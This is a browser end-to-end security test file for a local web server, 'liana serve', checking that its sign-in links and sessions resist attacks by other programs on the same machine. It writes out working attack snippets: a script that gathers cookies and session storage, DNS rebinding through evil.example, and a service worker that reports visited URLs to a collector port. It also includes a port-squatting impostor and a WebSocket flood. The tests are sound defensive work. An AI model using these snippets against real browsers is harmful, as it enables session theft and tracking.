import { createHash } from "node:crypto";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { WebSocketServer } from "ws";
import { launchChromium } from "../e2e/harness/chromium.ts";
import { tokenOf } from "../scenarios/serve/support/browser.ts";
import type { Served } from "../scenarios/serve/support/served.ts";
import { ForeignProgram, openSignedIn, openTab, PAGE, servePage, waitSignedOut } from "./serve-stage.ts";

/*
 * Attacks E4, E5 and E17 on `liana serve`, by other users of this computer and by their pages, in a real browser.
 * Attacks that need no browser are in test/scenarios/serve.
 */

let browser: Browser;
let context: BrowserContext;
let served: Served;
beforeAll(async () => {
  browser = await launchChromium(["--host-resolver-rules=MAP evil.example 127.0.0.1"]);
});
afterAll(() => browser.close());
beforeEach(async () => {
  context = await browser.newContext();
  served = await servePage();
});
afterEach(async () => {
  await context.close();
  await served[Symbol.asyncDispose]();
});

/** Runs in a page: sends requests with the credentials that a browser adds. Returns everything the page could read. */
const REACH = `async (host) => {
  const seen = [];
  for (const path of ["/", "/ws", "/assets/"])
    for (const mode of ["cors", "no-cors"])
      await fetch("http://" + host + path, { credentials: "include", mode }).then(
        async (answer) => seen.push(answer.type === "opaque" ? "" : await answer.text()),
        () => seen.push(""),
      );
  const frame = document.createElement("iframe");
  frame.src = "http://" + host + "/";
  document.body.append(frame);
  await new Promise((resolve) => (frame.onload = resolve));
  try {
    seen.push(frame.contentWindow.document.documentElement.outerHTML, frame.contentWindow.sessionStorage["liana-session"]);
  } catch { seen.push(""); }
  await new Promise((resolve) => {
    const socket = new WebSocket("ws://" + host + "/ws");
    socket.onmessage = ({ data }) => seen.push(data);
    socket.onopen = () => seen.push("open");
    socket.onclose = resolve;
  });
  seen.push(document.cookie, JSON.stringify(sessionStorage), JSON.stringify(localStorage));
  return seen.filter((text) => text !== "" && text !== "{}");
}`;

const hostOf = (link: string): string => new URL(link).host;

describe("the link", () => {
  it("signs in, is removed from the address, and works after a reload and in a second tab, but for nobody else", async () => {
    const link = served.link();
    const page = await openSignedIn(context, link);
    expect(page.url()).not.toContain("token");
    const kept: string[] = [];
    page.on("response", (response) => {
      if (response.headers()["cache-control"] !== "no-store") kept.push(response.url());
    });
    await page.reload();
    await page.getByRole("heading", { level: 1 }).waitFor();
    expect(kept).toEqual([]);
    expect(await page.evaluate("Promise.all([caches.keys(), indexedDB.databases()])")).toEqual([[], []]);
    await openSignedIn(context, `http://${hostOf(link)}/`);
    expect(await context.cookies()).toEqual([]);

    // [token replay] In another browser, with the used link and with the bare address.
    const other = await browser.newContext();
    await waitSignedOut(await openTab(other, link));
    const late = await openTab(other, `http://${hostOf(link)}/`);
    await waitSignedOut(late);
    // A new link in a tab that is already open.
    await late.goto(served.link());
    await late.getByText("This tab is not signed in").waitFor({ state: "detached" });
    await late.getByRole("heading", { level: 1 }).waitFor();
    await other.close();
  });
});

describe("a page of another program, in the browser that is signed in", () => {
  it("on another port of the same host, even of the same name, gets nothing", async () => {
    const link = served.link();
    const host = hostOf(link);
    const page = await openSignedIn(context, link);
    await using foreign = await ForeignProgram.open();
    for (const name of ["127.0.0.1", "localhost", host.split(":")[0] ?? ""]) {
      const attack = await openTab(context, `http://${name}:${foreign.port}/`);
      expect(await attack.evaluate(`(${REACH})(${JSON.stringify(host)})`)).toEqual([]);
      await attack.close();
    }
    const secrets = String(await page.evaluate("sessionStorage['liana-session']"));
    const { session, proof } = JSON.parse(secrets) as { session: string; proof: string };
    for (const secret of [session, proof, tokenOf(link)]) expect(foreign.received).not.toContain(secret);
  });

  it("[foreign origin, DNS rebinding] under a name that leads here, sees a refusal", async () => {
    const link = served.link();
    await openSignedIn(context, link);
    const port = hostOf(link).split(":")[1] ?? "";
    const attack = await openTab(context, `http://evil.example:${port}/`);
    expect(await attack.textContent("body")).toContain("Liana does not use this address.");
    const seen = await attack.evaluate<string>(
      `fetch("/assets/", { credentials: "include" }).then((answer) => answer.text())`,
    );
    expect(seen).toBe("Liana does not use this address.\n");
    await attack.goto(`http://127.0.0.1:${port}/`);
    const hint = await attack.textContent("body");
    expect(hint).toContain("Open the link that liana serve printed");
    expect(hint).not.toContain(hostOf(link));
  });
});

/**
 * Leaves a service worker and cached scripts of another program in the browser, at the program's port.
 * @returns the port, which is free again
 */
async function leaveBehind(collector: ForeignProgram, scripts: readonly string[]): Promise<number> {
  const report = (what: string): string =>
    `fetch("http://127.0.0.1:${collector.port}/${what}?" + encodeURIComponent(String(location)), { mode: "no-cors" });`;
  const worker = `
    self.addEventListener("install", () => self.skipWaiting());
    self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
    self.addEventListener("fetch", (event) => {
      fetch("http://127.0.0.1:${collector.port}/worker?" + encodeURIComponent(event.request.url), { mode: "no-cors" });
      event.respondWith(new Response("<title>planted</title>", { headers: { "Content-Type": "text/html" } }));
    });`;
  const page = `<title>before</title><script>
    navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => (document.title = "ready"));
    </script>${scripts.map((path) => `<script src="${path}"></script>`).join("")}`;
  const program = await ForeignProgram.open((request, response) => {
    const isPage = request.url === "/";
    response.setHeader("Content-Type", isPage ? "text/html" : "text/javascript");
    if (!isPage) response.setHeader("Cache-Control", "public, max-age=31536000, immutable");
    response.end(isPage ? page : request.url === "/worker.js" ? worker : report("script"));
  });
  const { port } = program;
  for (const name of ["127.0.0.1", "localhost"]) {
    const tab = await openTab(context, `http://${name}:${port}/`);
    await expect.poll(() => tab.title()).toBe("ready");
    await tab.close();
  }
  await program[Symbol.asyncDispose]();
  collector.asked.length = 0;
  return port;
}

describe("a program that used the port before", () => {
  it("cannot run its service worker or cached scripts in Liana's page", async () => {
    await using collector = await ForeignProgram.open();
    const scripts = readdirSync(join(PAGE, "assets")).filter((name) => name.endsWith(".js"));
    const port = await leaveBehind(
      collector,
      scripts.slice(0, 5).map((name) => `/assets/${name}`),
    );
    await using next = await servePage(port);
    const link = next.link();
    expect(hostOf(link)).toMatch(new RegExp(`:${port}$`));
    const page = await openSignedIn(context, link);
    expect(await page.evaluate("navigator.serviceWorker.controller")).toBeNull();
    expect(await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)")).toBe(
      0,
    );
    await page.reload();
    await page.getByRole("heading", { level: 1 }).waitFor();
    // Worker and scripts report their URL. Late reports from the program's own addresses may still arrive.
    const reported = collector.asked.map(({ url = "" }) => decodeURIComponent(url));
    expect(reported.filter((url) => url.includes(hostOf(link)) || url.includes("token"))).toEqual([]);
  });

  it("and one that uses it afterwards receives no call and is not trusted", async () => {
    const page = await openSignedIn(context, served.link());
    const port = Number(new URL(page.url()).port);
    const received: string[] = [];
    await served.stop();
    await using thief = await ForeignProgram.open(undefined, port);
    const sockets = new WebSocketServer({ server: thief.server });
    sockets.on("connection", (socket) =>
      socket.on("message", (data) => {
        const text = (data as Buffer).toString("utf8");
        received.push(text);
        const { session = "x" } = JSON.parse(text) as { session?: string };
        socket.send(JSON.stringify({ kind: "welcome", session, proof: createHash("md5").digest("hex") }));
      }),
    );
    await waitSignedOut(page);
    expect(received.map((text) => (JSON.parse(text) as { kind: string }).kind)).toEqual(["session"]);
    for (const socket of sockets.clients) socket.terminate();
  });
});

it("a compromised page that floods the server does not stop another page", async () => {
  const page = await openSignedIn(context, served.link());
  const other = await openSignedIn(await browser.newContext(), served.link());
  const result = await page.evaluate<{ large: number; refused: number; answers: number }>(`(async () => {
    const { session } = JSON.parse(sessionStorage["liana-session"]);
    const open = () => new Promise((resolve, reject) => {
      const socket = new WebSocket("ws://" + location.host + "/ws");
      socket.onerror = reject;
      socket.onopen = () => socket.send(JSON.stringify({ kind: "session", session }));
      socket.onmessage = () => { socket.onmessage = null; resolve(socket); };
    });
    const big = await open();
    const large = new Promise((resolve) => (big.onclose = ({ code }) => resolve(code)));
    big.send("x".repeat(17 * 1024 * 1024));
    const flood = await open();
    globalThis.answers = 0;
    flood.onmessage = () => globalThis.answers++;
    for (let id = 1; id <= 20000; id++)
      flood.send(JSON.stringify({ kind: "call", id, command: "getSnapshot", input: {} }));
    let refused = 0;
    for (let turn = 0; turn < 40; turn++) await open().catch(() => refused++);
    return { large: await large, refused };
  })()`);
  expect(result.large).toBe(1009);
  expect(result.refused).toBeGreaterThanOrEqual(40 - 32);
  await other.reload();
  await other.getByRole("heading", { level: 1 }).waitFor();
  expect(await page.evaluate("globalThis.answers")).toBeLessThan(20_000);
  await other.context().close();
});

it("the page shows an expired session, and a new link signs in again", async () => {
  const page = await openSignedIn(context, served.link());
  served.later = 8 * 24 * 60 * 60_000;
  // Only a reload makes the page present its session again.
  await page.reload();
  await waitSignedOut(page);
  await page.goto(served.link());
  await page.getByText("This tab is not signed in").waitFor({ state: "detached" });
});
